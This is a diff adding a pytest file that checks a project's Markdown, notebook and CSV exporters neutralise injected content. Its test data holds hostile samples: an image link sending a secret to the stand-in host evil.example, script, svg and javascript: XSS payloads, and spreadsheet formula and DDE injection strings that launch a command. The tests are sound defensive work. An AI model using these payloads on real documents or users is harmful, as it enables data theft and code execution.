@@ -1,0 +1,105 @@
+"""What leaves Leaf cannot act in the program that opens it: the Markdown is read by a parser of its
+own, with HTML, as notebooks and forges read it."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+from markdown_it import MarkdownIt
+
+from leaf.exports.manifest import Manifest
+from leaf.exports.notebook import _text
+from leaf.exports.readme import readme
+from leaf.shapes.harmless import JOINER, harmless_markdown, inert
+from leaf.tables.child import export_csv
+
+PICTURE = "![x](https://evil.example/?d=secret)"
+ATTACKS = [
+    PICTURE,
+    f"text {PICTURE} text",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "![r]\n\n[r]: https://evil.example/a.png",
+    '<img src="https://evil.example/a.png">',
+    "<!-- x --><svg onload=alert(1)>",
+    "<script>\n\n```\n</script><img src=x>\n```",
+    "[a](javascript:alert(1)) <javascript:alert(1)> [b](data:text/html,x)",
+    f"```\ncode\n```\n{PICTURE}",
+    f"   ```\nx\n```\n{PICTURE}\n```\n",
+    f"> ```\n{PICTURE}\n```\n{PICTURE}\n",
+    f"- ```\n{PICTURE}\n\n```\n{PICTURE}\n",
+    f"````\n```\n{PICTURE}\n````\n{PICTURE}",
+    f"~~~ a`b\nx\n~~~\n{PICTURE}\n~~~\n",
+    f"\t```\n{PICTURE}\n\t```\n{PICTURE}",
+    f"| a |\n|---|\n| {PICTURE} |",
+    f"[^1]: {PICTURE}",
+    f"# {PICTURE}",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_acts_in_exported_markdown(attack: str) -> None:
+    assert "<img" in MarkdownIt("commonmark", {"html": True}).render(PICTURE)
+    for document in (attack, f"Before\n{attack}\n\nafter", attack.replace("\n", "\r\n")):
+        html = (
+            MarkdownIt("commonmark", {"html": True})
+            .enable("table")
+            .render(harmless_markdown(document))
+        )
+        for sign in ("<img", "<svg", "<script", "<!--", 'href="javascript:', 'href="data:'):
+            assert sign not in html, (sign, document)
+
+
+def test_code_stays_as_it_was_and_links_lead_on() -> None:
+    sql = "SELECT a<b, c::int, '![x](y)' FROM t WHERE x <y"
+    text = f"See <https://a.example> and [b](https://b.example).\n\n```sql\n{sql}\n```\nEnd.\n"
+    assert harmless_markdown(text) == text
+    inside = harmless_markdown("````\na\n```\nb\n````")
+    assert inside == "````\na\n```\nb\n````\n"
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("+49 30 1234", "+49 30 1234"),
+        ("+49 (0)30", "'+49 (0)30"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＝1+1", "'＝1+1"),
+        ("-5", "-5"),
+        ("-1.234,56 %", "-1.234,56 %"),
+        ("-5+3", "'-5+3"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_a_cell_is_no_formula_and_numbers_stay_numbers(
+    tmp_path: Path, cell: str, written: str
+) -> None:
+    import duckdb
+
+    assert inert(cell) == written
+    con = duckdb.connect()
+    con.execute('CREATE TABLE t ("=name" VARCHAR, n DOUBLE, l VARCHAR[])')
+    con.execute("INSERT INTO t VALUES (?, -1.5, [?])", [cell, cell])
+    source = str(tmp_path / "t.parquet")
+    con.execute(f"COPY t TO '{source}' (FORMAT parquet)")
+    for raw, first in ((False, written), (True, cell)):
+        out = tmp_path / str(raw)
+        out.mkdir()
+        export_csv(source, str(out), 512, raw=raw)
+        with (out / "export.csv").open(newline="", encoding="utf-8") as file:
+            head, row = list(csv.reader(file))
+        assert head[0] == ("=name" if raw else "'=name")
+        assert row[:2] == [first, "-1.5"]
+
+
+def test_names_of_files_and_titles_do_not_act_in_a_bundle_or_a_notebook() -> None:
+    manifest = Manifest(format="leaf-chat", version=1, title=PICTURE)
+    for text in (readme(manifest), _text(PICTURE)["source"]):
+        assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(text)
+        assert JOINER in text
